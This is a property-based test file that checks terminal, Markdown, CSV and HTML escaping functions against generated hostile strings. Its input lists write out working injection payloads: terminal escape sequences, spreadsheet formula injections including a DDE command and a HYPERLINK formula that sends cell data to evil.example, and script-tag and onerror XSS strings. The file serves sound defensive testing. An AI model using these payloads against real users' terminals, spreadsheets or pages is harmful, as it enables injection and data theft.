import fc from 'fast-check';
import { parse as parseCsv } from 'csv-parse/sync';
import { Marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { inert } from '../../src/sinks/characters.js';
import { csvCell } from '../../src/sinks/csv.js';
import { escapeHtml, escapeXml } from '../../src/sinks/html.js';
import { escapeMarkdown, fenceFor } from '../../src/sinks/markdown.js';
import { forTerminal } from '../../src/sinks/terminal.js';

/*
 * One property per neutraliser, over generated hostile strings: ordinary text (accents, astral
 * characters, CJK) mixed with terminal escapes, controls, bidi and invisible characters, lone
 * surrogates, spreadsheet formulas, Markdown and HTML payloads, quotes and delimiters.
 */
const SEED = 20_240_611;
const RUNS = 2_000;
const params = { seed: SEED, numRuns: RUNS };

/*
 * The hostile classes, written from the sinks' contract rather than taken from the sources: C0 and
 * C1 controls and DEL, line and paragraph separators, bidi marks, embeddings, overrides and isolates,
 * zero-width and invisible characters, and lone surrogates (with the `u` flag, a surrogate range only
 * matches a surrogate that is not half of a pair).
 */
const HOSTILE_CLASS =
  '[\\u0000-\\u001f\\u007f\\u0080-\\u009f\\u2028\\u2029\\u061c\\u200e\\u200f\\u202a-\\u202e\\u2066-\\u2069\\u00ad\\u180e\\u200b-\\u200d\\u2060-\\u2064\\ufeff\\ud800-\\udfff]';
const HOSTILE = new RegExp(HOSTILE_CLASS, 'u');
const HOSTILE_ALL = new RegExp(HOSTILE_CLASS, 'gu');

// ---------------------------------------------------------------------------------------------
// The hostile arbitrary
// ---------------------------------------------------------------------------------------------

const charOf = (min: number, max: number) => fc.integer({ min, max }).map((c) => String.fromCharCode(c));

const ordinary = fc.oneof(
  fc.constantFrom('Café', 'élève', 'Œuvre à Noël', 'Ça déçoit', 'naïve', 'Zoë', 'ÉTÉ', 'Renée & Cie', 'S.A.R.L.', 'x', 'a b', ' ', '  ', '    ', 'plain text'),
  fc.constantFrom('😀', '👩‍💻', '🇫🇷', '𝔘𝔫𝔦𝔠𝔬𝔡𝔢', '𠀋', 'e\u0301', '日本語', '中文字', '한국어', '，', '\u00a0', '\u3000', '\u2003'),
  fc.string({ unit: 'grapheme', maxLength: 6 }),
  fc.string({ unit: 'binary', maxLength: 4 }),
);

const terminalEscapes = fc.constantFrom(
  '\u001b[31m',
  '\u001b[0m',
  '\u001b[2J\u001b[H',
  '\u001bc',
  '\u001b]52;c;ZXZpbA==\u0007',
  '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
  '\u001b]0;title\u0007',
  '\u009b31m',
  '\u009d8;;x\u009c',
  '\u001bP+q\u001b\\',
  '\r',
  '\n',
  '\r\n',
  '\t',
  '\b\b\b',
);

const controls = fc.oneof(charOf(0x00, 0x1f), charOf(0x7f, 0x9f));
const invisibles = fc.constantFrom(
  '\u061c',
  '\u200e',
  '\u200f',
  '\u202a',
  '\u202b',
  '\u202c',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u00ad',
  '\u180e',
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\u2061',
  '\u2062',
  '\u2063',
  '\u2064',
  '\ufeff',
  '\u2028',
  '\u2029',
);
const loneSurrogates = fc.oneof(charOf(0xd800, 0xdbff), charOf(0xdc00, 0xdfff));

const formulas = fc.constantFrom(
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-1+1',
  '\t=1+1',
  '\r=1+1',
  '=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=',
  '+',
  '-',
  '@',
);

const markup = fc.constantFrom(
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</p><div>',
  '<!-- c -->',
  '[x](javascript:alert(1))',
  '![i](u)',
  '[ref]: https://evil.example',
  '[^1]',
  '**b**',
  '*i*',
  '_u_',
  '__s__',
  '~~del~~',
  '`code`',
  '``',
  '```',
  '````js',
  '~~~',
  '# heading',
  '## heading',
  '###### h6',
  '#',
  ' #',
  'C#',
  'Team #',
  'Lot ##  ',
  '1. list',
  '1) list',
  '- item',
  '+ item',
  '* item',
  '---',
  '--',
  '- -',
  '***',
  '___',
  '===',
  '> quote',
  '| table |',
  '|',
  '| --- |',
  'https://evil.example',
  'http://evil.example/a_b_c',
  'HTTPS://EVIL.example',
  'ftp://evil.example',
  'www.evil.example',
  '_www.evil.example_',
  'xhttps://evil.example',
  'a@b.co',
  'mailto:a@b.co',
  'xmpp:a@b.co',
  '<http://x>',
  '<a@b.co>',
  '&amp;',
  '&copy;',
  '&#60;',
  '&#x3c;',
  '&',
  '\\',
  '\\\\',
  '\\*',
  '  ',
  '\\\n',
);

const quotesAndDelimiters = fc.constantFrom(
  '"',
  "'",
  '""',
  ',',
  ';',
  '|',
  '_',
  '*',
  '~',
  '"a;b"',
  "'quoted'",
  '\u201c',
  '\u2019',
  '<',
  '>',
  ':',
  '.',
  '!',
  '(',
  ')',
  '{{ x }}',
);

const piece = fc.oneof(
  { weight: 4, arbitrary: ordinary },
  { weight: 2, arbitrary: terminalEscapes },
  { weight: 2, arbitrary: controls },
  { weight: 2, arbitrary: invisibles },
  { weight: 1, arbitrary: loneSurrogates },
  { weight: 2, arbitrary: formulas },
  { weight: 4, arbitrary: markup },
  { weight: 2, arbitrary: quotesAndDelimiters },
);

/**
 * A hostile string: pieces glued together, so that payloads meet each other and ordinary text; one or two
 * pieces alone often enough that a payload is also tried as the whole value (a line start, a line end).
 */
const hostile: fc.Arbitrary<string> = fc.oneof(
  { weight: 1, arbitrary: piece },
  { weight: 1, arbitrary: fc.tuple(piece, piece).map(([a, b]) => a + b) },
  { weight: 3, arbitrary: fc.array(piece, { maxLength: 10 }).map((pieces) => pieces.join('')) },
);

// ---------------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------------

const NAMED_ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };

/** Decodes the entities a renderer or escaper writes; an entity it does not know fails the test. */
function decodeEntities(html: string): string {
  return html.replace(/&(#\d+|#x[0-9a-f]+|[A-Z][A-Z0-9]*);/gi, (_, body: string) => {
    if (body.startsWith('#x') || body.startsWith('#X')) return String.fromCodePoint(Number.parseInt(body.slice(2), 16));
    if (body.startsWith('#')) return String.fromCodePoint(Number.parseInt(body.slice(1), 10));
    const named = NAMED_ENTITIES[body];
    if (named === undefined) throw new Error(`unexpected entity &${body}; in ${JSON.stringify(html)}`);
    return named;
  });
}

/** What a Markdown paragraph keeps of a line: its spaces and tabs at either end are not shown. */
const paragraphTrim = (s: string) => s.replace(/^[ \t]+|[ \t]+$/g, '');

/** Undoes `forTerminal`'s escapes (meaningful for texts without a backslash of their own). */
function unescapeTerminal(s: string): string {
  return s.replace(/\\(?:([nrt])|u([0-9a-f]{4}))/g, (_, named: string | undefined, hex: string | undefined) =>
    named === 'n' ? '\n' : named === 'r' ? '\r' : named === 't' ? '\t' : String.fromCharCode(Number.parseInt(hex ?? '', 16)),
  );
}

const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

const marked = new Marked({ gfm: true });
const render = (md: string) => marked.parse(md, { async: false });

// ---------------------------------------------------------------------------------------------
// Properties
// ---------------------------------------------------------------------------------------------

describe('sink neutralisers over hostile strings', () => {
  it('forTerminal: nothing hostile comes out, clean text is untouched, escapes stay distinguishable', () => {
    fc.assert(
      fc.property(hostile, (s) => {
        const out = forTerminal(s);
        // 1. No control, separator, bidi, invisible character or lone surrogate survives.
        expect(HOSTILE.test(out)).toBe(false);
        // 2. Text with none of them is printed as it is.
        const clean = s.replace(HOSTILE_ALL, '');
        expect(forTerminal(clean)).toBe(clean);
        // 3. Escaping only adds: every character keeps a visible, distinct trace.
        expect(out.length).toBeGreaterThanOrEqual(s.length);
        // 4. Injective: without a backslash of the input's own, the escapes decode back to the input exactly.
        const noBackslash = s.replace(/\\/g, '/');
        expect(unescapeTerminal(forTerminal(noBackslash))).toBe(noBackslash);
      }),
      params,
    );
  });

  it('escapeMarkdown: one line, rendered by marked (GFM) as a bare paragraph with exactly the inert text, also after text, in a list item, a heading and a table cell', () => {
    fc.assert(
      fc.property(hostile, (s) => {
        const md = escapeMarkdown(s);
        const expected = inert(s);
        // On one line, with nothing invisible.
        expect(md).not.toMatch(/[\n\r\u2028\u2029]/);
        expect(HOSTILE.test(md)).toBe(false);

        // Alone on its line (as at the start of a template line): one paragraph or nothing, and no other element at all
        // (no a, img, script, em, strong, code, del, h1–h6, li, table, blockquote, hr, pre, br, raw HTML).
        const html = render(md);
        const para = /^(?:<p>([^<]*)<\/p>\n)?$/.exec(html);
        expect(para, `${JSON.stringify(s)} → ${JSON.stringify(md)} → ${JSON.stringify(html)}`).not.toBeNull();
        // Its text, entities decoded, is the inert text exactly, but for the spaces a paragraph drops at its ends.
        expect(paragraphTrim(decodeEntities(para?.[1] ?? ''))).toBe(paragraphTrim(expected));

        // After other text on its line, as in most template lines: still a bare paragraph, and the leading spaces
        // count (French puts one before its colon).
        const after = /^<p>([^<]*)<\/p>\n$/.exec(render(`x${md}`));
        expect(after, `x${md}`).not.toBeNull();
        expect(paragraphTrim(decodeEntities(after?.[1] ?? ''))).toBe(paragraphTrim(`x${expected}`));

        // As a list item and as a heading's text, as the templates use it: that one element, the text intact
        // (the renderer trims the ends of both). marked 18 splits an item whose text ends with a non-ASCII space
        // (U+00A0, U+3000…) into the item and a block of the trailing whitespace alone (a paragraph, or a code
        // block when four spaces precede it), as it does for any text, escaped or not ("- a    \u3000"): a
        // renderer quirk, and the only other element allowed, holding nothing but whitespace.
        const list = render(`- ${md}`);
        const item = /^<ul>\n<li>([^<]*)<\/li>\n<\/ul>\n(?:<p>(\s*)<\/p>\n|<pre><code>(\s*)<\/code><\/pre>\n)?$/.exec(list);
        expect(item, `- ${md} → ${list}`).not.toBeNull();
        expect(decodeEntities(item?.[1] ?? '').trim()).toBe(expected.trim());
        const heading = /^<h3>([^<]*)<\/h3>\n$/.exec(render(`### ${md}`));
        expect(heading, `### ${md} → ${render(`### ${md}`)}`).not.toBeNull();
        expect(decodeEntities(heading?.[1] ?? '').trim()).toBe(expected.trim());

        // Inside a table row: still exactly two cells, the second one holding the text (a cell trims its ends).
        const table = render(`| h1 | h2 |\n| --- | --- |\n| a | ${md} |\n`);
        const body = /<tbody>([\s\S]*)<\/tbody>/.exec(table)?.[1] ?? '';
        const cells = [...body.matchAll(/<td>([^<]*)<\/td>/g)].map((m) => m[1] ?? '');
        expect(body.match(/<td/g)?.length, `${JSON.stringify(md)} → ${JSON.stringify(table)}`).toBe(2);
        expect(cells.length).toBe(2);
        expect(cells[0]).toBe('a');
        expect(decodeEntities(cells[1] ?? '').trim()).toBe(expected.trim());
      }),
      params,
    );
  });

  it('fenceFor: a block fenced with it renders as exactly one <pre><code> holding the content', () => {
    const backticks = fc.integer({ min: 1, max: 8 }).map((n) => '`'.repeat(n));
    const line = fc
      .array(
        fc.oneof(
          piece,
          backticks,
          backticks.map((b) => `   ${b}`),
        ),
        { maxLength: 5 },
      )
      .map((p) => p.join(''));
    const content = fc.array(line, { maxLength: 6 }).map((lines) => lines.join('\n'));
    fc.assert(
      fc.property(content, (c) => {
        const fence = fenceFor(c);
        expect(fence).toMatch(/^`{3,}$/);
        const html = render(`${fence}\n${c}\n${fence}\n`);
        const block = /^<pre><code>([^<]*)<\/code><\/pre>\n$/.exec(html);
        expect(block, `${JSON.stringify(c)} → ${JSON.stringify(html)}`).not.toBeNull();
        // Markdown reads CR LF and CR as line ends (a CR at the content's end pairs with the newline after it):
        // that is the only change, and the last line ends with a newline.
        expect(decodeEntities(block?.[1] ?? '')).toBe(`${c}\n`.replace(/\r\n?/g, '\n'));
      }),
      params,
    );
  });

  it('csvCell: never a formula, nothing invisible, and parsed back as one field holding the inert text', () => {
    fc.assert(
      fc.property(hostile, fc.constantFrom(';', ','), (s, delimiter) => {
        const cell = csvCell(s, delimiter);
        const text = inert(s);
        // Never starts (after an optional opening quote) with a formula starter.
        expect(cell).not.toMatch(/^"?[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/);
        // No control or invisible character at all (line breaks and tabs became spaces).
        expect(HOSTILE.test(cell)).toBe(false);

        // Alone on a line: one record of one field.
        const alone: string[][] = parseCsv(`${cell}\r\n`, { delimiter });
        expect(alone).toEqual([[expect.any(String)]]);
        const field = alone[0]?.[0] ?? '';
        // The field is the inert text, with a leading `'` exactly when a spreadsheet could take it for a formula.
        const prefixed = field === `'${text}`;
        expect(prefixed || field === text).toBe(true);
        if (FORMULA_START.test(text)) expect(prefixed).toBe(true);
        if (prefixed) expect(FORMULA_START.test(text) || FORMULA_START.test(s)).toBe(true);

        // Between two other cells: still three fields, the middle one unchanged, even for a reader that trims
        // unquoted fields (as spreadsheets do): spaces at either end are kept by quoting.
        for (const trim of [false, true]) {
          const row: string[][] = parseCsv(`x${delimiter}${cell}${delimiter}y\r\n`, { delimiter, trim });
          expect(row).toEqual([['x', field, 'y']]);
        }
      }),
      params,
    );
  });

  it('escapeHtml / escapeXml: no markup character, only well-formed entities, and decoding gives the inert text', () => {
    fc.assert(
      fc.property(hostile, (s) => {
        const out = escapeHtml(s);
        expect(escapeXml(s)).toBe(out);
        expect(HOSTILE.test(out)).toBe(false);
        expect(out).not.toMatch(/[<>"']/);
        // Every `&` starts an entity.
        expect(out).not.toMatch(/&(?!#\d+;|#x[0-9a-f]+;|[A-Z][A-Z0-9]*;)/i);
        expect(decodeEntities(out)).toBe(inert(s));
      }),
      params,
    );
  });
});
